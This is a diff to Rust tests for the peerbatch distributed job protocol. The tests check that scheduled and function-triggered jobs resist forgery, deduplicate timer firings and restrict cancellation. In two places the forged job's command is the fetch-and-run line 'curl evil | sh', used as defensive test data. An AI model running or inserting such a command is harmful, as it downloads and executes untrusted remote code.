@@ -9,8 +9,10 @@ mod harness;
 
 use harness::*;
 use peerbatch_protocol::event::{event_id, Claim};
-use peerbatch_protocol::ledger::job_id_of;
+use peerbatch_protocol::function::{FunctionEvent, FunctionSpec, Trigger};
+use peerbatch_protocol::ledger::{job_id_for, job_id_of};
 use peerbatch_protocol::schedule::{occurrence_job_id, Occurrence, Recurrence};
+use peerbatch_protocol::trigger::{Cause, Firing, Origin};
 use peerbatch_protocol::{
     BlobId, Command, Config, EventBody, EventId, Identity, Input, JobSpec, Message, Millis,
     NodeInfo, Outcome, Source, TaskResult, TaskState,
@@ -201,7 +203,7 @@ fn a_scheduled_job_keeps_its_schedules_template_whatever_event_id_a_forger_grind
         at_ms: 1_000,
     };
     let fired = JobSpec {
-        origin: Some(occurrence.clone()),
+        origin: Some(Origin::Schedule(occurrence.clone())),
         ..template
     };
     let (job, honest) = a
@@ -212,7 +214,7 @@ fn a_scheduled_job_keeps_its_schedules_template_whatever_event_id_a_forger_grind
 
     let mut evil = spec(1, 0);
     evil.groups[0].spec_mut().command = Command::Shell("curl evil | sh".into());
-    evil.origin = Some(occurrence);
+    evil.origin = Some(Origin::Schedule(occurrence));
     a.hear(4, &faulty(), vec![ground_below(honest, &evil, 1_000)]);
     assert_eq!(a.core.ledger().job(&job).map(|j| &j.spec), Some(&fired));
 
@@ -227,7 +229,7 @@ fn a_scheduled_job_keeps_its_schedules_template_whatever_event_id_a_forger_grind
         schedule: "nope".into(),
         at_ms: 1_000,
     };
-    evil.origin = Some(stray.clone());
+    evil.origin = Some(Origin::Schedule(stray.clone()));
     a.hear(
         4,
         &faulty(),
@@ -238,6 +240,81 @@ fn a_scheduled_job_keeps_its_schedules_template_whatever_event_id_a_forger_grind
         }],
     );
     assert!(a.core.ledger().job(&occurrence_job_id(&stray)).is_none());
+}
+
+#[test]
+fn a_function_fires_only_the_jobs_its_triggers_would_and_two_firings_of_a_timer_are_one_job() {
+    let mut a = Node::new(1, Config::default());
+    a.timeout(0);
+    let owner = Identity::from_seed([7; 32]);
+    let spec = FunctionSpec {
+        bundle: BlobId([3; 32]),
+        command: Command::Shell("./tick".into()),
+        triggers: vec![Trigger::Timer(Recurrence::Every {
+            ms: 1_000,
+            start_ms: 0,
+        })],
+        timeout_ms: 1_000,
+        retry: true,
+        max_attempts: 3,
+    };
+    let deploy = EventBody::Function(FunctionEvent::Deployed {
+        name: "tick".into(),
+        spec: spec.clone(),
+        at_ms: 5,
+    });
+    let version = event_id(&owner.sign(deploy.clone()).encode());
+    let firing = |cause| Firing {
+        function: "tick".into(),
+        version,
+        cause,
+    };
+    let timer = firing(Cause::Timer { at_ms: 1_000 });
+    let fired = spec.fired_job(&timer);
+    let job = Origin::Function(Box::new(timer))
+        .job_id()
+        .expect("a timer's job id");
+    let submit = |job: &JobSpec, nonce| EventBody::JobSubmitted {
+        job: job.clone(),
+        submitted_ms: 1_000,
+        nonce,
+    };
+
+    // The firing arrives before the deploy: it counts once the deploy does.
+    a.hear(1, &owner, vec![submit(&fired, 1)]);
+    assert!(a.core.ledger().job(&job).is_none());
+    a.hear(2, &owner, vec![deploy]);
+    assert_eq!(a.core.ledger().job(&job).map(|j| &j.spec), Some(&fired));
+    assert_eq!(a.core.ledger().job(&job).unwrap().submitted_ms, 1_000);
+
+    // Another node firing the same occurrence makes no second job.
+    a.hear(3, &faulty(), vec![submit(&fired, 2)]);
+    assert_eq!(a.core.ledger().function_jobs("tick").count(), 1);
+
+    // A forged job under the occurrence's id, whatever id it grinds,
+    // never replaces the firing's.
+    let honest = event_id(&owner.sign(submit(&fired, 1)).encode());
+    let mut evil = fired.clone();
+    evil.groups[0].spec_mut().command = Command::Shell("curl evil | sh".into());
+    a.hear(4, &faulty(), vec![ground_below(honest, &evil, 1_000)]);
+    assert_eq!(a.core.ledger().job(&job).map(|j| &j.spec), Some(&fired));
+
+    // An occurrence off the timer's grid, or a put for a function with no
+    // blob trigger, fires no job.
+    let blob = Cause::Blob {
+        blob: BlobId([4; 32]),
+        name: "uploads/a".into(),
+    };
+    for cause in [Cause::Timer { at_ms: 1_500 }, blob] {
+        let stray = spec.fired_job(&firing(cause));
+        let id = event_id(&faulty().sign(submit(&stray, 3)).encode());
+        a.hear(5, &faulty(), vec![submit(&stray, 3)]);
+        assert!(a.core.ledger().job(&job_id_for(&id, &stray)).is_none());
+    }
+    assert_eq!(a.core.ledger().function_jobs("tick").count(), 1);
+    // Only the function's owner (or an admin) may cancel what it fired.
+    assert!(!a.core.ledger().may_cancel(&job, &faulty().node_id()));
+    assert!(a.core.ledger().may_cancel(&job, &owner.node_id()));
 }
 
 #[test]
